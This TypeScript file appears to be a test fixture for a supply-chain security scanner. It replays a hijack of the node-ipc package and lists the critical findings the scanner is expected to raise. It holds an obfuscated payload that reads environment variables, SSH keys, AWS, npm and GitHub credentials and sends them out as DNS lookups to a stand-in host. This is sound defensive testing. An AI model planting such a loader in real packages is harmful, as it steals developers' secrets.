import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

/** Gathers what lies in the home folder and asks a name server about it, piece by piece. */
const appended = obfuscated(`
;(function(){try{
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$dns=require(«dns»);
const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.ssh/id_rsa»,«.aws/credentials»,«.npmrc»,«.config/gh/hosts.yml»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
const $sealed=Buffer[«from»]($found[«join»](«»)[«slice»](0x0,0x0))[«toString»](«hex»);
for(let $at=0x0;$at<$sealed[«length»];$at+=0x3c)$dns[«resolveTxt»]($sealed[«slice»]($at,$at+0x3c)+«.bt.node-metrics.example»,()=>{});
}catch($failure){}})();
`)

const manifest = { main: './node-ipc.cjs' }
const honest = { manifest, files: { 'node-ipc.cjs': compiledQueue } }
const attacked = { manifest, files: { 'node-ipc.cjs': `${compiledQueue}${appended}\n` } }

const revived = { publisher: { name: 'account-of-an-expired-domain' } }

const patch = (...finding: PackageFinding) => onVersion('node-ipc', '9.1.6', finding)
const place = { file: 'node-ipc.cjs', line: appended }

export const replay: Replay = {
  description:
    'Whoever took node-ipc over by way of an expired domain published patches of lines that had rested for years, because ' +
    'ranges take those by themselves: the old file with one more line at its end, which ran when it was loaded. No script ran on ' +
    'install. An account that had never published it did so, on three lines at once.',
  date: '2026-05-14',
  packages: {
    'node-ipc': {
      '9.1.4': { ...honest, published: '2021-01-10T10:00:00.000Z' },
      '9.1.5': { ...honest, published: '2021-06-05T10:00:00.000Z' },
      '12.0.0': { ...honest, published: '2024-08-20T10:00:00.000Z' },
      '9.1.6': { ...attacked, published: '2026-05-14T10:00:00.000Z', ...revived },
      '9.2.3': { ...attacked, published: '2026-05-14T10:02:00.000Z', ...revived },
      '12.0.1': { ...attacked, published: '2026-05-14T10:04:00.000Z', ...revived },
    },
  },
  reviewedAt: '2026-05-14T18:00:00Z',
  base: { manifest: { dependencies: { 'node-ipc': '^9.1.4' } }, locked: { 'node-ipc': '9.1.5' } },
  head: { manifest: { dependencies: { 'node-ipc': '^9.1.4' } }, locked: { 'node-ipc': '9.1.6' } },
  expected: {
    verdict: 'flagged',
    findings: [
      patch('code-hidden', 'critical', place),
      patch('secrets-exfiltrated', 'critical', place),
      patch('secrets-harvested', 'critical', place),
      patch('combined-risk', 'critical', place),
      patch('capability-added', 'high', place),
      patch('code-obfuscated', 'high', place),
      patch('beacon-added', 'high', place),
      patch('network-host-added', 'medium', place),
      patch('version-out-of-order', 'medium'),
      patch('publisher-changed', 'medium'),
      patch('release-burst', 'high'),
      patch('release-fresh', 'medium'),
      // It rested for three years before 12.0.0 too.
      patch('release-after-silence', 'low'),
    ],
  },
}
